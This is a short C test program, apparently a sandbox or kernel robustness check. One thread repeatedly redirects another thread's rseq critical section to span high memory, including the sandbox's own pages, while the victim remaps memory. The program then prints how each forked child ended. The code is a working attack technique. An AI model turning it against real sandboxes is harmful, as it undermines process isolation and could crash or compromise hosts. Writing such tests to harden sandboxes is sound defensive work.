// SPDX-License-Identifier: Apache-2.0
// One thread keeps telling the kernel that another one's critical section is all of high memory, the sandbox's own pages included,
// while that one changes its mappings. Prints how each of some processes ended.
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/rseq.h>
#include <sys/wait.h>
#include <unistd.h>

static struct rseq *volatile victim;
static struct rseq_cs section __attribute__((aligned(32)));

static void *attack(void *unused) {
  for (;;) victim->rseq_cs = (unsigned long)&section;
  return unused;
}

static void be_attacked(void) {
  victim = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
  char *code = mmap((void *)0x10000000, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
  unsigned signature = RSEQ_SIG;
  memcpy(code + 28, &signature, 4);
  memcpy(code + 32, "\xeb\xfe", 2); // jmp .
  section.abort_ip = (unsigned long)code + 32;
  section.start_ip = 0x7ffff0000000;
  section.post_commit_offset = 0x7fffffffe000 - section.start_ip;
  pthread_t thread;
  pthread_create(&thread, 0, attack, 0);
  for (int i = 0; i < 20000; i++) munmap(mmap(0, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), 4096);
}

int main(void) {
  for (int i = 0; i < 10; i++) {
    pid_t pid = fork();
    if (pid == 0) {
      alarm(5);
      be_attacked();
      _exit(0);
    }
    int status;
    waitpid(pid, &status, 0);
    printf("%d\n", WIFSIGNALED(status) ? WTERMSIG(status) : -WEXITSTATUS(status));
  }
  return 0;
}
